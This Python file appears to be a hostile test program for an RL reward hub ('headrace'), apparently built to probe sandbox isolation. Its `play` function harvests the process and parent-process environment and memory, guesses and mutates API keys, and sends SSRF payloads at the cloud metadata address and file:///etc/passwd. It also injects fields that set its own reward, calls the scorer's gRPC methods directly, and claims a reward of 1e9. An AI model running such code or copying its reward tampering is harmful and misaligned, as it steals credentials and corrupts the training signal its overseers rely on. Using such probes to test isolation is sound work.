"""A program that looks for what is not its own: `play` tries everything, says what it got as its artifacts, and claims a great reward."""

from __future__ import annotations

import http.client
import json
import os
import secrets
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import grpc

import headrace
from headrace.env.wire import episode_to_wire
from headrace.v1 import episode_pb2, reward_pb2, reward_pb2_grpc


def play(e: headrace.Episode) -> float:
    """Of what it tries, each with its answer: a status of HTTP or gRPC."""
    e.artifacts["environment"] = _own_process()
    e.artifacts["parent"] = _parent()
    e.artifacts["keys"] = [_ask(e, key) for key in _guesses(e.api_key)]
    e.artifacts["fetched"] = [_ask(e, e.api_key, content=content) for content in _remote(e.public["listens"])]
    e.artifacts["options"] = [_ask(e, e.api_key, **options) for options in _OPTIONS]
    e.artifacts["hub"] = _hub(e)
    e.artifacts["asked"] = _ask(e, e.api_key)
    return 1e9


# what would change what is sampled, or what is written to the record
_OPTIONS: tuple[dict[str, Any], ...] = (
    {"logit_bias": {"7": 100}},
    {"n": 64},
    {"chat_template": "{{ 1 }}"},
    {
        "response_format": {
            "type": "json_schema",
            "json_schema": {"name": "x", "schema": {"$ref": "file:///etc/passwd"}},
        }
    },
    {"reward": 1.0, "trained": True, "group_id": "another"},
)


def _own_process() -> str:
    """All that it was started with."""
    started = Path("/proc/self/environ").read_bytes() + Path("/proc/self/cmdline").read_bytes()
    return json.dumps(dict(os.environ)) + started.decode(errors="replace")


def _parent() -> dict[str, str]:
    """What of the hub's memory and environment can be read, or the reason why it can't."""
    return {name: _opened(Path(f"/proc/{os.getppid()}/{name}")) for name in ("environ", "mem", "maps", "fd/0", "cwd")}


def _opened(path: Path) -> str:
    try:
        if path.name == "cwd":
            return str(path.readlink())
        with path.open("rb") as file:
            return "opened" if path.name == "mem" else file.read().decode(errors="replace")
    except OSError as error:
        return type(error).__name__


def _guesses(key: str) -> list[str]:
    gateway, _, own = key.partition("-")
    return [
        f"{gateway}-{secrets.token_hex(16)}",
        gateway,
        f"{gateway}-",
        f"{gateway}-{own[:-1]}",
        f"{gateway}-*",
        own,
        "",
        "..",
        "%00",
    ]


def _remote(address: str) -> list[Any]:
    return [
        [{"type": "image_url", "image_url": {"url": url}}]
        for url in (f"http://{address}/x.png", "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd")
    ] + [[{"type": "input_audio", "input_audio": {"data": f"http://{address}/x.wav", "format": "wav"}}]]


def _ask(e: headrace.Episode, key: str, content: Any = "hi", **options: Any) -> int:
    """A call of the policy under `key`; returns the status."""
    parts = urlsplit(e.base_url)
    connection = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=30)
    body = json.dumps({"model": "policy", "messages": [{"role": "user", "content": content}], **options})
    headers = {"content-type": "application/json", "authorization": f"Bearer {key}"}
    connection.request("POST", f"/s/{key}/v1/chat/completions", body, headers)
    response = connection.getresponse()
    response.read()  # who hangs up before its end was not given the answer
    connection.close()
    return response.status


def _hub(e: headrace.Episode) -> list[str]:
    """It asks for an episode, and for rewards, as the runner and the scorer do."""
    asked: episode_pb2.Episode = episode_to_wire(e)
    said = []
    with grpc.insecure_channel(e.public["hub"]) as channel:
        stub = reward_pb2_grpc.RewardServiceStub(channel)
        for call, request in (
            (stub.RunEpisode, reward_pb2.RunEpisodeRequest(episode=asked)),
            (stub.Score, reward_pb2.ScoreRequest()),
            (stub.ListEnvironments, reward_pb2.ListEnvironmentsRequest()),
        ):
            try:
                call(request, timeout=30)
                said.append("OK")
            except grpc.RpcError as error:
                said.append(error.code().name)
    return said
